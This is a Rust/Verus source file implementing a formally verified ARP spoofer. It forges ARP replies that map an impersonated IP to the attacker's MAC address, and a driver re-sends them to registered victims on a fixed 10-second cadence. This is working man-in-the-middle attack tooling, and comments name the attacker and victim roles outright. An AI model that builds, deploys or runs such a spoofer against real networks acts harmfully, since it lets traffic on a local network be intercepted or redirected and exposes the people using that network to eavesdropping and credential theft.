//! Forged ARP replies, sent on a fixed cadence.
//!
//! The driver is a state machine with the states idle, running and
//! stopping. The caller runs the loop: it asks for a cycle, transmits the
//! frames of the cycle, waits the cadence, and asks again, until the driver
//! says that the loop is over.

use crate::address::MacAddr;
use crate::arp::network_location::NetworkLocation;
use crate::arp::packet_builder::{
    arp_message, arp_response, lemma_framed_arp_round_trip, ArpPacketBuilder, ArpPacketBuilderImpl,
};
use crate::packet::arp::arp_decode;
use crate::packet::ethernet::{
    ethernet_frame, frame_destination, frame_ethertype, frame_payload, frame_source, ETHERTYPE_ARP,
};
use vstd::prelude::*;

verus! {

/// Time between two spoof cycles unless told otherwise, in milliseconds.
pub const DEFAULT_SPOOF_CADENCE_MS: u64 = 10_000;

/// A directive to tell `target` that the address of `original_location`
/// now lives at `spoof_to_hw`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub struct SpoofingEntry {
    pub original_location: NetworkLocation,
    pub spoof_to_hw: MacAddr,
    pub target: NetworkLocation,
}

impl SpoofingEntry {
    pub fn new(original_location: NetworkLocation, spoof_to_hw: MacAddr, target: NetworkLocation) -> (r:
        SpoofingEntry)
        ensures
            r == (SpoofingEntry { original_location, spoof_to_hw, target }),
    {
        SpoofingEntry { original_location, spoof_to_hw, target }
    }
}

/// The sender that a forged reply claims: the impersonated address at the
/// attacker's hardware address.
pub open spec fn fake_sender(entry: SpoofingEntry) -> NetworkLocation {
    NetworkLocation { ipv4: entry.original_location.ipv4, hw: entry.spoof_to_hw }
}

/// The forged reply for `entry`: from the attacker's hardware address to the
/// victim's, ethertype ARP, carrying a reply from the fake sender to the
/// victim.
pub open spec fn spoof_frame(entry: SpoofingEntry) -> Seq<u8> {
    ethernet_frame(
        entry.spoof_to_hw,
        entry.target.hw,
        0x0806,
        arp_response(fake_sender(entry), entry.target),
    )
}

/// The forged replies for a list of entries, one per entry, in order.
pub open spec fn spoof_frames(entries: Seq<SpoofingEntry>) -> Seq<Seq<u8>> {
    Seq::new(entries.len(), |i: int| spoof_frame(entries[i]))
}

/// A forged reply reads back as what the entry directs: a reply that maps
/// the impersonated address to the attacker's hardware address, addressed
/// to the victim.
pub proof fn lemma_spoof_frame_matches_entry(entry: SpoofingEntry)
    ensures
        spoof_frame(entry).len() == 42,
        frame_source(spoof_frame(entry)) == entry.spoof_to_hw,
        frame_destination(spoof_frame(entry)) == entry.target.hw,
        frame_ethertype(spoof_frame(entry)) == 0x0806,
        arp_decode(frame_payload(spoof_frame(entry))) == arp_message(
            2,
            fake_sender(entry),
            entry.target,
        ),
{
    lemma_framed_arp_round_trip(
        2,
        fake_sender(entry),
        entry.target,
        entry.spoof_to_hw,
        entry.target.hw,
        0x0806,
    );
}

/// Forges single replies.
pub struct ArpSpooferImpl;

impl ArpSpooferImpl {
    pub fn new() -> (r: ArpSpooferImpl) {
        ArpSpooferImpl
    }

    /// The forged reply for `entry`.
    pub fn spoof_target(&self, entry: &SpoofingEntry) -> (r: Vec<u8>)
        ensures
            r@ == spoof_frame(*entry),
    {
        let fake_sender = NetworkLocation {
            ipv4: entry.original_location.ipv4,
            hw: entry.spoof_to_hw,
        };
        let builder = ArpPacketBuilderImpl::new();
        let arp_response = builder.build_response(fake_sender, entry.target);
        builder.wrap_in_ethernet(entry.spoof_to_hw, entry.target.hw, ETHERTYPE_ARP, arp_response)
    }
}

/// State of the spoof driver.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum SpoofState {
    /// No loop is running.
    Idle,
    /// The loop transmits on the cadence.
    Running,
    /// The loop was told to stop and has not ended yet.
    Stopping,
}

/// What the loop does next.
#[derive(Debug)]
pub enum SpoofCycle {
    /// Transmit these frames in order, then wait `wait_ms` and ask again.
    Transmit { frames: Vec<Vec<u8>>, wait_ms: u64 },
    /// The loop is over.
    Exit,
}

/// A `SpoofCycle` with its frames as byte sequences.
pub enum SpoofCycleView {
    Transmit { frames: Seq<Seq<u8>>, wait_ms: u64 },
    Exit,
}

impl View for SpoofCycle {
    type V = SpoofCycleView;

    open spec fn view(&self) -> SpoofCycleView {
        match *self {
            SpoofCycle::Transmit { frames, wait_ms } => SpoofCycleView::Transmit {
                frames: frames@.map_values(|f: Vec<u8>| f@),
                wait_ms,
            },
            SpoofCycle::Exit => SpoofCycleView::Exit,
        }
    }
}

/// Holds the spoofing entries and decides what each cycle transmits.
pub struct AsyncArpSpooferImpl {
    spoofer: ArpSpooferImpl,
    entries: Vec<SpoofingEntry>,
    state: SpoofState,
    cadence_ms: u64,
}

impl AsyncArpSpooferImpl {
    /// The registered entries, in order of registration.
    pub closed spec fn entries(&self) -> Seq<SpoofingEntry> {
        self.entries@
    }

    /// The state of the driver.
    pub closed spec fn state(&self) -> SpoofState {
        self.state
    }

    /// Time between two cycles, in milliseconds.
    pub closed spec fn cadence(&self) -> u64 {
        self.cadence_ms
    }

    /// Whether the loop has been told to stop, or was never started.
    pub open spec fn cancelled(&self) -> bool {
        !(self.state() is Running)
    }

    /// An idle driver without entries, with the default cadence.
    pub fn new() -> (r: AsyncArpSpooferImpl)
        ensures
            r.entries() == Seq::<SpoofingEntry>::empty(),
            r.state() == SpoofState::Idle,
            r.cadence() == DEFAULT_SPOOF_CADENCE_MS,
    {
        AsyncArpSpooferImpl::with_cadence(DEFAULT_SPOOF_CADENCE_MS)
    }

    /// An idle driver without entries that waits `cadence_ms` between cycles.
    pub fn with_cadence(cadence_ms: u64) -> (r: AsyncArpSpooferImpl)
        ensures
            r.entries() == Seq::<SpoofingEntry>::empty(),
            r.state() == SpoofState::Idle,
            r.cadence() == cadence_ms,
    {
        AsyncArpSpooferImpl {
            spoofer: ArpSpooferImpl::new(),
            entries: Vec::new(),
            state: SpoofState::Idle,
            cadence_ms,
        }
    }

    /// Registers `entry`. It is transmitted from the next cycle on.
    pub fn add_entry(&mut self, entry: SpoofingEntry)
        ensures
            final(self).entries() == old(self).entries().push(entry),
            final(self).state() == old(self).state(),
            final(self).cadence() == old(self).cadence(),
    {
        self.entries.push(entry);
    }

    /// Starts the loop: an idle driver runs. A driver that runs or is
    /// stopping is left as it is. Says whether the driver was started.
    pub fn start_spoofing(&mut self) -> (started: bool)
        ensures
            started == (old(self).state() is Idle),
            final(self).state() == if old(self).state() is Idle {
                SpoofState::Running
            } else {
                old(self).state()
            },
            final(self).entries() == old(self).entries(),
            final(self).cadence() == old(self).cadence(),
    {
        if self.state == SpoofState::Idle {
            self.state = SpoofState::Running;
            true
        } else {
            false
        }
    }

    /// Tells the loop to stop: a running driver is stopping. From then on
    /// no cycle transmits.
    pub fn stop(&mut self)
        ensures
            final(self).state() == if old(self).state() is Running {
                SpoofState::Stopping
            } else {
                old(self).state()
            },
            final(self).cancelled(),
            final(self).entries() == old(self).entries(),
            final(self).cadence() == old(self).cadence(),
    {
        if self.state == SpoofState::Running {
            self.state = SpoofState::Stopping;
        }
    }

    /// Reports that the loop has ended: a stopping driver is idle again.
    pub fn drain(&mut self)
        ensures
            final(self).state() == if old(self).state() is Stopping {
                SpoofState::Idle
            } else {
                old(self).state()
            },
            final(self).entries() == old(self).entries(),
            final(self).cadence() == old(self).cadence(),
    {
        if self.state == SpoofState::Stopping {
            self.state = SpoofState::Idle;
        }
    }

    /// One iteration of the loop.
    ///
    /// A running driver transmits one forged reply for each entry that is
    /// registered now, in order of registration, and waits the cadence. A
    /// driver that is not running transmits nothing and ends its loop; if
    /// it was stopping it is idle afterwards.
    pub fn next_cycle(&mut self) -> (cycle: SpoofCycle)
        ensures
            cycle@ == if old(self).state() is Running {
                SpoofCycleView::Transmit {
                    frames: spoof_frames(old(self).entries()),
                    wait_ms: old(self).cadence(),
                }
            } else {
                SpoofCycleView::Exit
            },
            cycle matches SpoofCycle::Transmit { frames, .. } ==> frames@.len() == old(
                self,
            ).entries().len() && forall|i: int|
                0 <= i < frames@.len() ==> (#[trigger] frames@[i])@ == spoof_frame(
                    old(self).entries()[i],
                ),
            final(self).state() == if old(self).state() is Running {
                SpoofState::Running
            } else {
                SpoofState::Idle
            },
            final(self).entries() == old(self).entries(),
            final(self).cadence() == old(self).cadence(),
    {
        if self.state != SpoofState::Running {
            self.state = SpoofState::Idle;
            return SpoofCycle::Exit;
        }
        let mut frames: Vec<Vec<u8>> = Vec::new();
        let mut i: usize = 0;
        while i < self.entries.len()
            invariant
                i <= self.entries@.len(),
                frames@.len() == i,
                forall|j: int| 0 <= j < i ==> (#[trigger] frames@[j])@ == spoof_frame(self.entries@[j]),
            decreases self.entries@.len() - i,
        {
            frames.push(self.spoofer.spoof_target(&self.entries[i]));
            i += 1;
        }
        proof {
            assert(frames@.map_values(|f: Vec<u8>| f@) =~= spoof_frames(self.entries@));
        }
        SpoofCycle::Transmit { frames, wait_ms: self.cadence_ms }
    }

    /// The state of the driver.
    pub fn current_state(&self) -> (r: SpoofState)
        ensures
            r == self.state(),
    {
        self.state
    }

    /// Number of registered entries.
    pub fn entry_count(&self) -> (r: usize)
        ensures
            r == self.entries().len(),
    {
        self.entries.len()
    }
}

/// In a cycle of a running driver there is exactly one frame for each
/// registered entry: as many frames as entries, and the frame at each
/// entry's place is the forged reply for that entry.
pub proof fn lemma_one_frame_per_entry(entries: Seq<SpoofingEntry>, i: int)
    requires
        0 <= i < entries.len(),
    ensures
        spoof_frames(entries).len() == entries.len(),
        spoof_frames(entries)[i] == spoof_frame(entries[i]),
        arp_decode(frame_payload(spoof_frames(entries)[i])) == arp_message(
            2,
            fake_sender(entries[i]),
            entries[i].target,
        ),
{
    lemma_spoof_frame_matches_entry(entries[i]);
}

} // verus!
